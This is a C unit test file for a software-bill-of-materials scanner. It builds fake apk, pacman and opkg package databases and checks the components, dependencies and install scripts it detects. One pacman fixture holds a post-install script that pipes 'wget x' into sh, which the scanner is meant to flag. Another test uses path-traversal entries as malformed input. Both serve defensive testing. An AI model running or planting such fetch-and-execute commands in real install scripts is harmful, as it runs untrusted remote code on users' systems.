/* Package databases that stand on os_package: apk, pacman, opkg. */
#include "collect/kit/dpkg_kit.h"
#include "model/facts.h"

#define APK                                                                                                            \
    "C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\nP:a\nV:1.2-r3\nA:x86_64\nT:does things\nU:https://a.example/\nL:MIT\no:src\n"   \
    "m:One\nD:b>=1 so:libb.so.1 !c absent cmd:x /usr/bin/b\np:cmd:a=1.2-r3\nF:usr/bin\nR:a\na:0:0:755\n"               \
    "Z:Q1hvfkN/qlp/zhXR3cuerq6jd2Z7g=\nF:etc\nR:gone.conf\nZ:Q1hvfkN/qlp/zhXR3cuerq6jd2Z7g=\n\n"                       \
    "P:b\nV:1.0_git1-r0\nA:x86_64\np:so:libb.so.1=1 cmd:x\nF:usr/bin\nR:b\na:0:0:777\n"                                \
    "Z:Q1hvfkN/qlp/zhXR3cuerq6jd2Z7g=\n\n"

static sb_comp apk_of(const struct sb_doc *doc, const char *rest)
{
    char purl[256];
    snprintf(purl, sizeof purl, "pkg:apk/%s", rest);
    return find_purl(doc, purl, ".");
}

static struct sb_doc *apk_root(struct root *root, const char *installed)
{
    root_new(root);
    root_file(root, "etc/os-release", "ID=wolfi\nVERSION_ID=20230201\n");
    root_file(root, "lib/apk/db/installed", installed);
    root_file(root, "etc/apk/world", "b@edge>1\nnot-there\n");
    root_file(root, "lib/apk/db/triggers", "Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA= /usr/lib\n");
    root_file(root, "usr/bin/a", "a");
    root_link(root, "usr/bin/b", "a");
    return root_scan(root);
}

static void test_apk(void **state)
{
    struct root root;
    (void)state;
    struct sb_doc *doc = apk_root(&root, APK);
    sb_comp a = apk_of(doc, "wolfi/a@1.2-r3?arch=x86_64&distro=wolfi-20230201");
    sb_comp b = apk_of(doc, "wolfi/b@1.0_git1-r0?arch=x86_64&distro=wolfi-20230201");
    sb_comp source = apk_of(doc, "wolfi/src@1.2-r3?arch=source");
    assert_true(a.v && b.v && source.v);
    assert_int_equal(sb_doc_at(doc, a)->group.v, 0); /* a distribution is no group */
    assert_true(related(doc, a, SB_REL_GENERATED_FROM, source));
    assert_true(related(doc, a, SB_REL_DEPENDS_ON, b));
    assert_int_equal(sb_doc_relations_from(doc, a).n, 2);
    assert_false(fact_has(doc, a, "sbom:requested", "true"));
    assert_true(fact_has(doc, b, "sbom:requested", "true"));
    assert_true(fact_has(doc, a, "sbom:deps", "{\"raw\":\"absent\",\"scope\":\"runtime\"}"));
    assert_false(fact_has(doc, a, "sbom:deps", "!c")); /* a conflict is no dependency */
    assert_true(
        fact_has(doc, a, "sbom:deps", "\"raw\":\"/usr/bin/b\",\"scope\":\"runtime\",\"to\":\"pkg:apk/wolfi/b@"));
    assert_true(fact_has(doc, a, "sbom:exec", "\"command\":\"/usr/lib\",\"kind\":\"apk:triggers\""));
    assert_true(fact_has(doc, b, "sbom:exec", "\"kind\":\"os:command\""));
    assert_true(fact_has(doc, a, "sbom:files", "\"n\":1"));
    assert_int_equal(doc->diags.n, 0);
    sb_doc_free(doc);
    root_remove(&root);
}

/* What is wrong is told with its line, and the rest is read. */
static void test_apk_bad(void **state)
{
    struct root root;
    (void)state;
    struct sb_doc *doc =
        apk_root(&root, "P:a\nV:1\nA:x\nnot a field\nF:../etc\nR:x\nF:usr\nR:bin/../../x\nR:y\nZ:Q1zz\n\n"
                        "P:no-version\n\nP:a\nV:2\nA:x\n\nP:last\nV:1\nA:x\n?\nP:behind\nV:1\nA:x");
    assert_true(apk_of(doc, "wolfi/a@2?arch=x&distro=wolfi-20230201").v);    /* of two the newer one */
    assert_true(apk_of(doc, "wolfi/last@1?arch=x&distro=wolfi-20230201").v); /* a line of one byte ends it */
    assert_true(apk_of(doc, "wolfi/behind@1?arch=x&distro=wolfi-20230201").v);
    assert_int_equal(told(doc, SB_D_MALFORMED), 2); /* the line, and the end that is missing */
    assert_int_equal(told(doc, SB_D_INCOMPLETE_ENTRY), 1);
    assert_int_equal(told(doc, SB_D_DUPLICATE_PACKAGE), 1);
    sb_doc_free(doc);
    root_remove(&root);
}

/* Scripts are of whom the database names by the checksum: by one name a few hundred lines would be millions. */
static void test_apk_crowd(void **state)
{
    enum { MANY = 400 };
    struct root root;
    struct sb_buf installed = {0}, triggers = {0};
    (void)state;
    for (int i = 0; i < MANY; i++) {
        sb_buf_printf(&installed, "C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\nP:a%d\nV:1\nA:x\n\n", i);
        sb_buf_printf(&triggers, "X10000000000000000000000000000000000000000 /%d\n", i);
    }
    sb_buf_chr(&installed, 0);
    sb_buf_chr(&triggers, 0);
    root_new(&root);
    root_file(&root, "etc/os-release", "ID=alpine\n");
    root_file(&root, "lib/apk/db/installed", installed.p);
    root_file(&root, "lib/apk/db/triggers", triggers.p);
    struct sb_doc *doc = root_scan(&root);
    sb_comp first = apk_of(doc, "alpine/a0@1?arch=x&distro=alpine");
    sb_comp last = apk_of(doc, "alpine/a99@1?arch=x&distro=alpine");
    assert_true(fact_has(doc, first, "sbom:exec", "\"kind\":\"apk:triggers\""));
    assert_true(last.v);
    assert_false(fact_has(doc, last, "sbom:exec", "\"kind\":\"apk:triggers\""));
    assert_int_equal(told(doc, SB_D_LIST_CUT), 1);
    sb_doc_free(doc);
    root_remove(&root);
    sb_buf_done(&installed);
    sb_buf_done(&triggers);
}

/* A system that must have a database, and has none, or an empty one. */
static void test_missing(void **state)
{
    static const struct {
        const char *id, *sign, *database, *empty;
    } rows[] = {{"ID=alpine\n", "etc/apk/keys/a.pub", "lib/apk/db/installed", "lib/apk/db/installed"},
                {"ID=arch\n", "etc/pacman.conf", "var/lib/pacman/local/ALPM_DB_VERSION", NULL},
                {"ID=openwrt\n", "etc/opkg.conf", "usr/lib/opkg/status", "usr/lib/opkg/status"}};
    (void)state;
    for (size_t i = 0; i < SB_COUNT(rows); i++) {
        struct root root;
        root_new(&root);
        root_file(&root, "etc/os-release", rows[i].id);
        root_file(&root, rows[i].sign, "x");
        if (rows[i].empty)
            root_file(&root, rows[i].empty, "");
        struct sb_doc *doc = root_scan(&root);
        assert_int_equal(told(doc, SB_D_DATABASE_MISSING), 1);
        for (size_t k = 0; k < doc->diags.n; k++)
            if (doc->diags.p[k].code == SB_D_DATABASE_MISSING)
                assert_true(sb_str_eq(doc->diags.p[k].path, sb_str_of(rows[i].database)));
        sb_doc_free(doc);
        root_remove(&root);
    }
}

#define LOCAL "var/lib/pacman/local/"
#define ZEROS "0000000000000000000000000000000000000000000000000000000000000000"

static void test_pacman(void **state)
{
    struct root root;
    (void)state;
    root_new(&root);
    root_file(&root, "etc/os-release", "ID=arch\n");
    root_file(&root, LOCAL "a-1:1-1/desc",
              "%NAME%\na\n\n%VERSION%\n1:1-1\n\n%BASE%\nsrc\n\n%DESC%\n\n\n%ARCH%\nx86_64\n\n%REASON%\n1\n\n"
              "%LICENSE%\nMIT\nApache-2.0 OR MIT\n\n%DEPENDS%\nb>=2\nlibb.so=1-64\nb<2\n\n%OPTDEPENDS%\nb: more\n\n");
    root_file(&root, LOCAL "b-2-1/desc", "%NAME%\nb\n\n%VERSION%\n2-1\n\n%ARCH%\nany\n\n%PROVIDES%\nlibb.so=1-64\n\n");
    root_file(&root, LOCAL "a-1:1-1/files", "%FILES%\netc/\netc/a.conf\nusr/bin/a\n\n%BACKUP%\netc/a.conf\tabc\n");
    root_file(&root, LOCAL "a-1:1-1/mtree",
              "#mtree\n/set type=file mode=644\n./.PKGINFO size=1 sha256digest=" ZEROS "\n./etc/a.conf size=1 "
              "sha256digest=" ZEROS "\n./usr/bin/a mode=755 size=1 sha256digest=" ZEROS
              "\n./usr/bin/b type=link link=a\n./usr/a\\040b size=1 sha256digest=" ZEROS
              "\n./x size=1 sha256digest=1\n");
    root_file(&root, LOCAL "a-1:1-1/install", "post_install() {\n  wget x | sh\n}\n");
    root_link(&root, LOCAL "b-2-1/install", "../a-1:1-1/install"); /* the same script, of another package */
    root_file(&root, "etc/a.conf", "edited");
    root_file(&root, "usr/bin/a", "a");
    root_link(&root, "usr/bin/b", "a");
    struct sb_doc *doc = root_scan(&root);
    sb_comp a = find_purl(doc, "pkg:alpm/arch/a@1:1-1?arch=x86_64", ".");
    sb_comp b = find_purl(doc, "pkg:alpm/arch/b@2-1?arch=any", ".");
    assert_true(a.v && b.v);
    assert_true(related(doc, a, SB_REL_GENERATED_FROM, find_purl(doc, "pkg:alpm/arch/src@1:1-1?arch=source", ".")));
    assert_true(related(doc, a, SB_REL_DEPENDS_ON, b));
    assert_true(fact_has(doc, a, "sbom:deps", "{\"raw\":\"b<2\",\"scope\":\"runtime\"}")); /* no such version */
    assert_true(fact_has(doc, a, "sbom:deps", "{\"raw\":\"b: more\",\"scope\":\"optional\"}"));
    assert_false(fact_has(doc, a, "sbom:requested", "true"));
    assert_true(fact_has(doc, b, "sbom:requested", "true"));
    assert_true(fact_has(doc, a, "sbom:exec", " fetches plants\",\"kind\":\"alpm:install\""));
    assert_true(fact_has(doc, b, "sbom:exec", " fetches plants\",\"kind\":\"alpm:install\""));
    /* the settings are nobody's concern; the link leads where it should; the name has a blank */
    assert_true(fact_has(doc, a, "sbom:verified",
                         "\"missing\":1,\"modified\":1,\"ok\":1,\"paths\":[[\"usr/a b\",\"missing\"],"
                         "[\"usr/bin/a\",\"modified\"]]"));
    assert_int_equal(told(doc, SB_D_DIGEST_MALFORMED), 1);
    sb_doc_free(doc);
    root_remove(&root);
}

static void test_opkg(void **state)
{
    struct root root;
    (void)state;
    root_new(&root);
    root_file(&root, "etc/os-release", "ID=openwrt\nVERSION_ID=23.05\n");
    root_file(&root, "usr/lib/opkg/status",
              "Package: a\nVersion: 1-r2\nDepends: none | b (>= 1), virtual\nStatus: install user installed\n"
              "Architecture: mips\nConffiles:\n /etc/a.conf abc\n\nPackage: b\nVersion: 2\nProvides: virtual\n"
              "Status: install ok installed\nArchitecture: all\nAuto-Installed: yes\n\nPackage: gone\nVersion: 1\n"
              "Status: deinstall ok config-files\nArchitecture: all\n\n");
    root_file(&root, "usr/lib/opkg/info/a.control", "Package: a\nVersion: 1-r2\nLicense: MIT\nMaintainer: One\n");
    root_file(&root, "usr/lib/opkg/info/a.list", "/etc/init.d/a\n/etc/a.conf\n");
    root_file(&root, "usr/lib/opkg/info/a.postinst", "#!/bin/sh\nadduser a\n");
    root_file(&root, "etc/init.d/a", "start\n");
    root_file(&root, "etc/a.conf", "edited");
    struct sb_doc *doc = root_scan(&root);
    sb_comp a = find_purl(doc, "pkg:generic/a@1-r2?arch=mips&distro=openwrt-23.05", ".");
    sb_comp b = find_purl(doc, "pkg:generic/b@2?arch=all&distro=openwrt-23.05", ".");
    assert_true(a.v && b.v);
    assert_false(find_name(doc, "gone").v);
    assert_true(related(doc, a, SB_REL_DEPENDS_ON, b));
    assert_true(text_is(doc, sb_doc_at(doc, a)->supplier, "One"));
    assert_int_equal(sb_doc_licences_of(doc, a).n, 1);
    assert_true(fact_has(doc, a, "sbom:requested", "true"));
    assert_false(fact_has(doc, b, "sbom:requested", "true"));
    assert_true(fact_has(doc, a, "sbom:exec", "\"kind\":\"opkg:postinst\""));
    assert_true(fact_has(doc, a, "sbom:exec", "\"kind\":\"os:init\""));
    sb_doc_free(doc);
    root_remove(&root);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_apk),     cmocka_unit_test(test_apk_bad), cmocka_unit_test(test_apk_crowd),
        cmocka_unit_test(test_missing), cmocka_unit_test(test_pacman),  cmocka_unit_test(test_opkg),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
